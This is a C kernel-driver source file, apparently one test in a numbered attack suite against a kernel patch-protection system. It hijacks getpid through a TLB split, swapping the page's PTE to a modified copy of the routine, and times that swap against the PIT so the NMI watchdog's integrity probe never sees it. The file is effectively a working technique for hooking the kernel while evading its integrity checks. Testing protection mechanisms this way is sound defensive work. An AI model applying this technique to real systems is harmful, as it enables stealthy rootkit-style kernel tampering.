/* attack_a97_timed_split (A97): A59's TLB split, kept out of the NMI's
 * way. The NMI watchdog's instruction-fetch probe, the one check that sees
 * a split, runs only in NMIs, and the NMI comes on PIT channel 0's edge,
 * whose count any driver can latch. From a periodic timer on every tick,
 * with interrupts off, this driver latches the count: when the next edge
 * (the next NMI) falls before the next tick's timer can run, it drops the
 * split from the TLB (INVLPG) and leaves it out until then; otherwise it
 * sets the split of getpid's text page up again (its PTE pointed at a copy
 * with the routine replaced by `mov eax, 4242; ret`, the routine called,
 * the PTE put back), so no NMI ever finds it. Expected (before the fix):
 * no bug check, `svc` prints pid 4242 on most heartbeats. */
#include "attack_pg.h"

#define PIT_CH0 0x40
#define PIT_CMD 0x43
#define PIT_PER_TICK 11932u /* PIT counts in a 10 ms tick */
#define PIT_MARGIN 4000u    /* the next tick's timer runs a little after the tick */

static struct ktimer beat;
static struct dpc beat_dpc;
static uint64_t *pte, orig, split, page, target;
static uint64_t splits, dropped;

static uint32_t pit_count(void)
{
	a_outb(PIT_CMD, 0x00); /* latch channel 0's count */
	uint32_t c = a_inb(PIT_CH0);
	c |= (uint32_t)a_inb(PIT_CH0) << 8;
	return c ? c : 0x10000;
}

static void tick(struct dpc *d, void *ctx)
{
	uint64_t pf = a_cli();
	if (pit_count() < PIT_PER_TICK + PIT_MARGIN) {
		a_invlpg(page); /* an NMI comes before the next tick's timer */
		dropped++;
	} else {
		*pte = split;
		a_invlpg(page);
		((uint64_t(*)(void))target)(); /* the instruction TLB takes the copy */
		*pte = orig;
		if (++splits == 100)
			printk("attack_a97: split set up 100 times, dropped %lu times before an NMI\n", dropped);
	}
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t *table = a_find_service_table();
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!table || !buf) {
		printk("attack_a97: service table not found, or no memory\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	target = table[KPP_SYS_GET_PID];
	page = target & ~(A_PAGE - 1);
	pte = a_pte_of(page, 0);
	uint8_t *copy = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	if (!pte || (uint64_t)copy < KPP_DIRECT_MAP_BASE) {
		printk("attack_a97: no PTE for kernel text, or the copy is not in the direct map\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	memcpy(copy, (const void *)page, A_PAGE);
	static const uint8_t fake[6] = {0xB8, 0x92, 0x10, 0x00, 0x00, 0xC3}; /* mov eax, 4242; ret */
	memcpy(copy + (target - page), fake, sizeof fake);
	orig = *pte;
	split = (orig & ~A_PTE_ADDR) | (((uint64_t)copy - KPP_DIRECT_MAP_BASE) & A_PTE_ADDR);
	dpc_init(&beat_dpc, tick, NULL);
	timer_init(&beat, &beat_dpc);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	tick(NULL, NULL);
	timer_set(&beat, 10000000ull, 10000000ull);
	printk("attack_a97: getpid's text page split on every tick the PIT's next edge does not come before the next\n");
	a_patched("attack_a97");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
